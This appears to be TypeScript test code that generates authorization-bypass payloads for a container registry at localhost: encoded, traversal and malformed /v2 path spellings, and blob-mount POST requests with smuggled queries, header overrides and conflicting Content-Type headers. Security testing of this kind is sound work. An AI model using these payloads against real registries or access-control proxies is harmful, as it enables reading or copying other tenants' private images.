const hex = (char: string, upper = false): string => {
  const digits = char.charCodeAt(0).toString(16).padStart(2, '0')
  return `%${upper ? digits.toUpperCase() : digits}`
}

/** A path with one of its characters encoded, for each of them, and with all of them. */
const encoded = (path: string): readonly string[] => [
  ...[...path].flatMap((char, index) => {
    if (index === 0) return []
    const around = (middle: string) => `${path.slice(0, index)}${middle}${path.slice(index + 1)}`
    return [around(hex(char)), around(hex(char, true))]
  }),
  `/${[...path.slice(1)].map((char) => (char === '/' ? char : hex(char))).join('')}`,
  `/${[...path.slice(1)].map((char) => hex(char)).join('')}`,
]

/** Every byte that is no letter and no digit, encoded, around the tenant's name. */
const bytes = (repository: string, rest: string): readonly string[] =>
  Array.from({ length: 128 }, (_, code) => String.fromCharCode(code))
    .filter((char) => !/[A-Za-z0-9]/.test(char))
    .flatMap((char) => [
      `/v2/${hex(char)}${repository}/${rest}`,
      `/v2/${repository.replace('/', `${hex(char)}/`)}/${rest}`,
    ])

/**
 * Ways to spell a path of `repository`, whose reader has no right, so that a policy that refuses it might not see it and the
 * registry would. `open` is a repository the reader may read.
 */
export function pathSpellings(repository: string, open: string, rest: string): readonly string[] {
  const plain = `/v2/${repository}/${rest}`
  const [tenant = '', name = ''] = repository.split('/')
  return [
    plain,
    ...encoded(plain),
    ...bytes(repository, rest),
    `//v2/${repository}/${rest}`,
    `/v2//${repository}/${rest}`,
    `/v2/${tenant}//${name}/${rest}`,
    `/./v2/./${tenant}/./${name}/${rest}`,
    `/x/../v2/${repository}/${rest}`,
    `/v2/x/../${repository}/${rest}`,
    `/v2/${open}/../${repository}/${rest}`,
    `/v2/${open}/../../${repository}/${rest}`,
    `/v2/${open}/../../../v2/${repository}/${rest}`,
    `/v2/${open}/%2e%2e/%2e%2e/${repository}/${rest}`,
    `/v2/${open}/.%2E/..%2f${repository}/${rest}`,
    `/v2/${open}/..;/..;/${repository}/${rest}`,
    `/v2/${open}/..;x/..;x/${repository}/${rest}`,
    `/v2/${open}/..\\..\\${repository}/${rest}`,
    `/v2\\${repository.replace('/', '\\')}\\${rest.replaceAll('/', '\\')}`,
    `/v2;x/${repository}/${rest}`,
    `/v2/;x/${repository}/${rest}`,
    `/v2/${tenant};x/${name}/${rest}`,
    `/v2/${repository};x/${rest}`,
    `/v2/${repository}/${rest};x`,
    `/v2/${repository}/;/${rest}`,
    `/V2/${repository}/${rest}`,
    `/v2/${repository.toUpperCase()}/${rest}`,
    `/v2/${repository}/${rest}/`,
    `/v2/${repository}/${rest}//`,
    `/v2/${repository}/${rest}/.`,
    `/v2/${repository}/${rest}?x=/v2/${open}/`,
    `/v2/${repository}/${rest}?`,
    `/v2/${repository}/${rest}#/v2/${open}/`,
    `/v2/${open}#/../../${repository}/${rest}`,
    `/v2/${open}?/../../${repository}/${rest}`,
    `/?/../v2/${repository}/${rest}`,
    `/v2/%252e%252e/v2/${repository}/${rest}`,
    `/v2/${tenant}%c0%af${name}/${rest}`,
    `/v2/${tenant}%u002f${name}/${rest}`,
    `/v2/${tenant}\u2215${name}/${rest}`,
    `/v2/\t${repository}/${rest}`,
    `http://localhost:5000${plain}`,
    `http://localhost:5000/v2/x/../${repository}/${rest}`,
    `http://localhost:5000//v2/${repository}/${rest}`,
    `http://user@localhost:5000${plain}`,
    `https://localhost:5000${plain}`,
    `http://localhost:5000?/..${plain}`,
    `HTTP://LOCALHOST:5000${plain}`,
    plain.slice(1),
  ]
}

/** Requests that might mount a blob of `from` into `into`, past a filter that looks for a query and a form. */
export function mounts(into: string, from: string, digest: string): readonly string[] {
  const upload = `/v2/${into}/blobs/uploads/`
  const query = `mount=${digest}&from=${from}`
  const post = (target: string, headers: readonly string[] = [], body = ''): string =>
    [
      `POST ${target} HTTP/1.1`,
      'Host: localhost:5000',
      'Connection: close',
      `Content-Length: ${body.length}`,
      ...headers,
      '',
      body,
    ].join('\r\n')
  const boundary = '--x\r\nContent-Disposition: form-data; name='
  const multipart = `${boundary}"mount"\r\n\r\n${digest}\r\n${boundary}"from"\r\n\r\n${from}\r\n--x--\r\n`
  const form = 'application/x-www-form-urlencoded'
  return [
    post(`${upload}?${query}`),
    post(`${upload}?from=${from}&mount=${digest}`),
    post(`${upload}?%6dount=${digest}&%66rom=${from}`),
    post(`${upload}?mount=${digest.replace(':', '%3A')}&from=${from.replace('/', '%2F')}`),
    post(`${upload}?digest=${digest}&${query}`),
    post(`${upload}?digest=${digest};${query}`),
    post(`${upload}?digest=sha256:00#?${query}`),
    post(`${upload}?digest=sha256:00%26${query}`),
    post(`${upload}?digest=sha256:00%00&${query}`),
    post(`${upload}??${query}`),
    post(`${upload}?&${query}`),
    post(`${upload}%3f${query}`),
    post(`${upload};${query}`),
    post(`${upload}#?${query}`),
    post(`${upload.slice(0, -1)}?${query}`),
    post(`http://localhost:5000${upload}?${query}`),
    post(upload, [`X-Original-URL: ${upload}?${query}`, `X-Envoy-Original-Path: ${upload}?${query}`]),
    post(upload, [`Content-Type: ${form}`], query),
    post(upload, [`Content-Type: ${form.toUpperCase()}; charset=utf-8`], query),
    post(upload, [`Content-Type:\t${form}`], query),
    post(upload, ['Content-Type: text/plain', `Content-Type: ${form}`], query),
    post(upload, [`Content-Type: ${form}`, 'Content-Type: text/plain'], query),
    post(upload, [`Content-Type: text/plain, ${form}`], query),
    post(upload, [`content-type: ${form};`], query),
    post(upload, ['Content-Type: multipart/form-data; boundary=x'], multipart),
    post(upload, ['Content-Type: MultiPart/Mixed; boundary=x'], multipart),
    post(upload, ['X-HTTP-Method-Override: POST', `Content-Type: ${form}`], query),
  ]
}
